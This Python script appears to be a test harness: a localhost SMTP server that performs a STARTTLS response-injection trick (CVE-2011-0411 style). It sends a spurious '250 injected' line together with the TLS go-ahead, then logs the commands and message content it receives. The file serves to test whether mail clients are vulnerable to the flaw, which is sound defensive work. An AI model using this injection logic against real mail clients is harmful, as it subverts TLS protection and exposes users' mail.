"""A server that plays the STARTTLS command-injection trick (CVE-2011-0411 style).

    python3 starttls_injector.py CERT KEY LOG

Binds 127.0.0.1 on a port the kernel picks and prints `listening on PORT`, serves one
connection and exits. It answers STARTTLS with `220 2.0.0 go ahead` and
`250 injected` in ONE write, then does a real TLS handshake: a client that reads the
extra line as a reply after the handshake has been fooled. Under TLS it takes one
message. LOG gets JSON: the commands seen before and after TLS, and the content.
"""

import json
import socket
import ssl
import sys


def lines(conn):
    """Yields CRLF-terminated lines read one byte at a time, so nothing after the
    STARTTLS line (the client's TLS hello) is taken from the socket by mistake."""
    line = b""
    while True:
        byte = conn.recv(1)
        if not byte:
            return
        line += byte
        if line.endswith(b"\n"):
            yield line
            line = b""


def main():
    cert, key, log_path = sys.argv[1:4]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(30)
    print(f"listening on {listener.getsockname()[1]}", flush=True)
    conn, _ = listener.accept()
    conn.settimeout(30)
    log = {"plain": [], "tls": [], "content": None}

    conn.sendall(b"220 injector.test ESMTP\r\n")
    for line in lines(conn):
        command = line.decode("latin-1").rstrip("\r\n")
        log["plain"].append(command)
        verb = command.split(" ")[0].upper()
        if verb == "EHLO":
            conn.sendall(b"250-injector.test\r\n250-PIPELINING\r\n250 STARTTLS\r\n")
        elif verb == "STARTTLS":
            conn.sendall(b"220 2.0.0 go ahead\r\n250 injected\r\n")
            break
        else:
            conn.sendall(b"530 5.7.0 STARTTLS first\r\n")
    else:
        sys.exit("the client never sent STARTTLS")

    tls = context.wrap_socket(conn, server_side=True)
    stream = tls.makefile("rb")
    writer = tls.makefile("wb")

    def say(text):
        writer.write(text)
        writer.flush()

    while True:
        line = stream.readline()
        if not line:
            break
        command = line.decode("latin-1").rstrip("\r\n")
        log["tls"].append(command)
        verb = command.split(" ")[0].upper()
        if verb == "EHLO":
            say(b"250-injector.test\r\n250 8BITMIME\r\n")
        elif verb in ("MAIL", "RCPT"):
            say(b"250 2.1.0 ok\r\n")
        elif verb == "DATA":
            say(b"354 go ahead\r\n")
            content = b""
            while True:
                data_line = stream.readline()
                if not data_line or data_line == b".\r\n":
                    break
                content += data_line
            log["content"] = content.decode("latin-1")
            say(b"250 2.0.0 stored\r\n")
        elif verb == "QUIT":
            say(b"221 2.0.0 bye\r\n")
            break
        else:
            say(b"500 5.5.2 what?\r\n")
    with open(log_path, "w") as f:
        json.dump(log, f)


if __name__ == "__main__":
    main()
